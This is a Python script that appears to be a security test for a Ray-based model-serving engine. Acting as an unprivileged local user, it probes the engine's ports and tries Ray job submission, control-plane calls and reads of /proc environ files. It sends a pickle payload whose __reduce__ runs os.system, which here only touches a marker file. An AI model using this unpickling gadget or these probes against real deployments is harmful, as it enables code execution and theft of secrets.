"""Tries every port of an engine as another user of the machine, and prints the outcomes.

Runs by itself, as root: ``python intruder.py < JSON``. It becomes the other user after its imports,
for Python may be installed where that user cannot read. Each attempt that could run code leaves a
file with its name in ``folder``.
"""

from __future__ import annotations

import importlib
import json
import os
import pickle
import pwd
import shlex
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import grpc
import httpx

HOST = "127.0.0.1"
PATIENCE_S = 5
JOBS = ("/api/jobs/", "/api/job_agent/jobs/")
"""Where Ray's dashboard and its agents take programs to run."""
PAGES = ("/api/jobs/", "/api/serve/applications/", "/api/v0/logs", "/nodes?view=summary")
"""What Ray's dashboard tells of an engine."""
RUNTIME_ENVIRONMENTS = "/get_or_create_runtime_env"
RAY = (
    "/ray.rpc.CoreWorkerService/PushTask",
    "/ray.rpc.InternalKVGcsService/InternalKVPut",
    "/ray.rpc.JobInfoGcsService/AddJob",
    "/ray.rpc.JobInfoGcsService/GetNextJobID",
    "/ray.rpc.NodeManagerService/GetNodeStats",
    "/ray.rpc.ObjectManagerService/Pull",
    "/ray.rpc.ReporterService/ReportOCMetrics",
)
"""Calls by which Ray's processes reach each other, and a driver begins."""
SERVE = tuple(
    f"/ray.serve.ASGIService/HandleRequest{kind}"
    for kind in ("", "Streaming", "WithRejection", "WithRejectionStreaming")
)
"""By which Serve's replicas call each other; they unpickle what they are sent."""
GRAPH = "coveted"
_CONTROL = f"/control/v1/graphs/{GRAPH}"
OWN = (
    f"DELETE {_CONTROL}",
    f"POST {_CONTROL}/revisions",
    f"POST {_CONTROL}/promote",
    f"POST {_CONTROL}/unload",
    f"PUT {_CONTROL}/traffic",
    f"POST /v2/repository/models/{GRAPH}/unload",
    "POST /control/v1/keys",
    "PUT /control/v1/access",
    f"GET {_CONTROL}/revisions/1/files",
    f"GET {_CONTROL}/logs",
    "GET /control/v1/keys",
    "GET /control/v1/access",
)
"""What changes an engine at its own doors, or tells the code of its graphs and who may use them."""
UNLOAD = "/inference.GRPCInferenceService/RepositoryModelUnload"


class Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


class Intruder:
    """``token`` is Ray's, or empty."""

    def __init__(self, folder: Path, token: str) -> None:
        self.folder = folder
        self.headers = {"authorization": f"Bearer {token}"} if token else {}
        self.http = httpx.Client(timeout=PATIENCE_S, trust_env=False)

    def write(self, name: str) -> str:
        """A command that leaves a file."""
        return f"touch {shlex.quote(str(self.folder / name))}"

    def page(self, port: int, path: str) -> str:
        return self._http(port, "GET", path)

    def job(self, port: int, path: str) -> str:
        command = self.write(f"{port}{path.replace('/', '-')}")
        return self._http(port, "POST", path, json={"entrypoint": command})

    def runtime_environment(self, port: int, path: str) -> str:
        return self._http(port, "POST", path, content=b"")

    def _http(self, port: int, method: str, path: str, **body: Any) -> str:
        try:
            reply = self.http.request(
                method, f"http://{HOST}:{port}{path}", headers=self.headers, **body
            )
        except httpx.HTTPError as error:
            return type(error).__name__
        return f"{reply.status_code} {reply.headers.get('content-type', '')}"

    def own(self, port: int, call: str) -> str:
        method, _, path = call.partition(" ")
        return self._http(port, method, path)

    def unload(self, port: int, method: str) -> str:
        named = GRAPH.encode()
        return self._grpc(port, method, b"\x12" + bytes([len(named)]) + named)

    def ray(self, port: int, method: str) -> str:
        return self._grpc(port, method, b"")

    def serve(self, port: int, method: str) -> str:
        from ray.serve.generated.serve_pb2 import ASGIRequest

        payload = pickle.dumps(Payload(self.write(f"{port}{method.replace('/', '-')}")))
        request = ASGIRequest(
            pickled_request_metadata=payload, request_args=payload, request_kwargs=payload
        )
        return self._grpc(port, method, request.SerializeToString())

    def _grpc(self, port: int, method: str, message: bytes) -> str:
        """The status of a call; its answer may be a stream."""
        with grpc.insecure_channel(f"{HOST}:{port}") as channel:
            try:
                call = channel.unary_stream(method)
                list(call(message, timeout=PATIENCE_S, metadata=tuple(self.headers.items())))
            except grpc.RpcError as error:
                return str(error.code().name)
        return "OK"


def opened(path: Path) -> str:
    """What comes of reading a file, or a folder."""
    try:
        list(path.iterdir()) if path.is_dir() else path.read_bytes()
    except OSError as error:
        return type(error).__name__
    return "OK"


def become(name: str) -> None:
    """Go on as another user, for good."""
    user = pwd.getpwnam(name)
    os.setgroups([])
    os.setgid(user.pw_gid)
    os.setuid(user.pw_uid)


def main() -> None:
    told = json.load(sys.stdin)
    importlib.import_module("ray.serve.generated.serve_pb2")
    become(told["user"])
    intruder = Intruder(Path(told["folder"]), told["token"])
    attempts: dict[str, tuple[Callable[[int, str], str], tuple[str, ...]]] = {
        "pages": (intruder.page, PAGES),
        "jobs": (intruder.job, JOBS),
        "runtime environments": (intruder.runtime_environment, (RUNTIME_ENVIRONMENTS,)),
        "own": (intruder.own, OWN),
        "unload": (intruder.unload, (UNLOAD,)),
        "ray": (intruder.ray, RAY),
        "serve": (intruder.serve, SERVE),
    }
    found: dict[str, Any] = {"user": os.getuid()}
    with ThreadPoolExecutor(8) as pool:
        for kind, (attempt, calls) in attempts.items():
            made = [(port, call) for port in told["ports"] for call in calls]
            outcomes = pool.map(lambda one, attempt=attempt: attempt(*one), made)
            found[kind] = {
                f"{port}{call}": text for (port, call), text in zip(made, outcomes, strict=True)
            }
    found["files"] = {path: opened(Path(path)) for path in told["files"]}
    found["processes"] = {
        f"{pid}/{name}": opened(Path("/proc", str(pid), name))
        for pid in told["pids"]
        for name in ("environ", "maps", "fd")
    }
    json.dump(found, sys.stdout)


if __name__ == "__main__":
    main()
